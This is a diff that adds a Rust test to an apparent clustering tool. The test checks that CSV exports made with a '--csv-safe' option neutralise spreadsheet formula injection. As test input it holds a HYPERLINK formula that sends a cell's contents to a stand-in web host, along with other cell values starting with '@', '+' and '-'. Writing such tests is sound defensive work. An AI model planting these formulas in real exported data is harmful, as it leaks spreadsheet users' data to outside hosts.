@@ -262,3 +262,35 @@ fn text_used_again_and_text_that_stands_only_here_are_in_every_format_that_shows
         assert!(bytes.starts_with(b"PAR1") && bytes.ends_with(b"PAR1"), "{name}");
     }
 }
+
+#[test]
+fn a_table_for_a_spreadsheet_holds_no_formula_and_one_for_a_program_what_was_said() {
+    let desk = Desk::new();
+    let text = "=The harbour bridge has been closed since the storm, and no ferry has left the quay for two days now.";
+    let line = |id: &str, title: &str, source: &str| {
+        let record = serde_json::json!({"id": id, "title": title, "source": source, "text": text});
+        format!("{record}\n")
+    };
+    let formula = "=HYPERLINK(\"http://example.org/?\"&A1,\"bridge\")";
+    desk.write(
+        "feed.jsonl",
+        [line("+1", formula, "@SUM(A1)"), line("-2", "Bridge = closed", "Post")].concat(),
+    );
+    desk.run("cluster feed.jsonl -o csv=a.csv -o passages=p.csv -o json=r.json").cleanly();
+    desk.run("report r.json -o csv=safe.csv -o passages=safe-p.csv --csv-safe").cleanly();
+    let cells = |name: &str| -> Vec<String> {
+        let text = desk.read(name);
+        let rows = csv::Reader::from_reader(text.as_bytes()).into_records();
+        rows.flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+    };
+    let [plain, safe] = ["a.csv", "safe.csv"].map(cells);
+    for cell in [formula, "@SUM(A1)", "+1", "-2", "Bridge = closed", "Post"] {
+        assert!(plain.iter().any(|it| it == cell), "{cell} is not in {plain:?}");
+        let wanted =
+            if cell.starts_with(['=', '+', '-', '@']) { format!("'{cell}") } else { cell.to_owned() };
+        assert!(safe.contains(&wanted), "{wanted} is not in {safe:?}");
+    }
+    for name in ["safe.csv", "safe-p.csv"] {
+        assert!(!cells(name).iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{name}");
+    }
+}
